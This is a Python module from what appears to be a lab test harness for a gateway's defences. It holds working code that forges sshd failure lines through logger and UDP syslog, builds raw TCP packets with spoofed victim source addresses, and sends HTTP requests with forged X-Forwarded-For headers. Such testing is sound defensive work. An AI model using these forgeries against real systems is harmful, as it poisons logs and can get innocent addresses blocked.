"""Who forges what a gateway reads: lines by syslog(3) and by UDP, packets from other people's addresses.

It must never send anything from outside the lab's namespaces.
"""

from __future__ import annotations

import random
import socket
import struct
import time
from collections.abc import Iterable, Sequence

from .lab import HOSTS, Lab, wait_for

GATEWAY = HOSTS["gateway"]
NOBODY = 65534
SYN, ACK, PSH = 0x02, 0x10, 0x08  # RFC 9293, 3.1
UDP_RSYSLOG = """\
module(load="imudp")
input(type="imudp" port="514")
module(load="builtin:omfile" Template="RSYSLOG_TraditionalFileFormat" fileGroup="adm" fileCreateMode="0640")
auth,authpriv.* action(type="omfile" file="/var/log/auth.log")
"""
"""A second rsyslogd, that takes in what comes by UDP, as central log servers do, and writes to the same file."""


class Forger:
    """Sits on the attacker's host, and has an account without rights on the gateway."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self._random = random.Random(7)

    def serve_udp(self) -> None:
        """Let the gateway take syslog datagrams in."""
        config = self.lab.folder / "rsyslog-udp.conf"
        config.write_text(UDP_RSYSLOG)
        self.lab.popen_in("gateway", ["rsyslogd", "-n", "-i", "/run/rsyslogd-udp.pid", "-f", str(config)])
        wait_for(
            "rsyslogd's port 514",
            lambda: ":514 " in self.lab.run_in("gateway", ["ss", "-Hulpn", "sport", "=", ":514"]).stdout,
        )

    def by_logger(self, victims: Iterable[str], count: int) -> None:
        """So many failures of each victim, by logger(1) as a user without rights: all in the name of one sshd."""
        lines = [line for victim in victims for line in self._lines(victim, count)]
        command = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
        command += ["logger", "-p", "auth.info", "-t", f"sshd[{self._random.randrange(2, 1 << 15)}]"]
        self.lab.run_in("gateway", command, input="".join(lines))

    def by_udp(self, victims: Iterable[str], count: int) -> None:
        """The same by datagrams (RFC 3164) from the attacker's host."""
        when = time.strftime("%b %e %H:%M:%S")
        with self.lab.inside("attacker"), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            for victim in victims:
                process = self._random.randrange(2, 1 << 15)
                for line in self._lines(victim, count):
                    said = f"<38>{when} gateway sshd[{process}]: {line}"
                    sender.sendto(said.encode(), (GATEWAY.v4, 514))

    def _lines(self, victim: str, count: int) -> list[str]:
        ports = [self._random.randrange(1024, 1 << 16) for _ in range(count)]
        return [f"Failed password for root from {victim} port {port} ssh2\n" for port in ports]

    def by_syn(self, victims: Iterable[str], ports: Sequence[int]) -> None:
        """An opening from each victim's IPv4 address to each port, and where sshd or nginx is, a guess at the rest of
        the handshake with the first payload of a session.
        """
        with (
            self.lab.inside("attacker"),
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw,
        ):
            for victim in victims:
                for port in ports:
                    own, number = self._random.randrange(1024, 1 << 16), self._random.getrandbits(32)
                    raw.sendto(_segment(victim, own, port, SYN, number, 0), (GATEWAY.v4, 0))
                    if port in (22, 80):
                        payload = (
                            b"SSH-2.0-forged\r\n" if port == 22 else b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
                        )
                        guess = self._random.getrandbits(32)
                        rest = _segment(victim, own, port, PSH | ACK, number + 1, guess, payload)
                        raw.sendto(rest, (GATEWAY.v4, 0))

    def by_header(self, victims: Iterable[str], count: int, address: str, host: str) -> None:
        """Requests without a key that claim to be forwarded for the victims, from `host` to `address`."""
        forged = [word for victim in victims for word in ("-H", f"X-Forwarded-For: {victim}, 127.0.0.1")]
        url = f"http://{address}/v1/models?[1-{count}]"
        self.lab.run_in(host, ["curl", "-s", "-o", "/dev/null", "-m", "5", *forged, url], check=False)


def _segment(
    source: str, own: int, port: int, flags: int, sequence: int, acknowledgement: int, payload: bytes = b""
) -> bytes:
    """An IPv4 packet with a TCP segment (RFC 791, RFC 9293); the kernel fills in the rest (raw(7))."""
    addresses = socket.inet_aton(source) + socket.inet_aton(GATEWAY.v4)
    sequence &= 0xFFFF_FFFF

    def header(checksum: int) -> bytes:
        return struct.pack(
            "!HHIIBBHHH", own, port, sequence, acknowledgement, 5 << 4, flags, 64240, checksum, 0
        )

    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20 + len(payload))
    segment = header(_checksum(pseudo + header(0) + payload)) + payload
    first = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0)
    return first + addresses + segment


def _checksum(data: bytes) -> int:
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
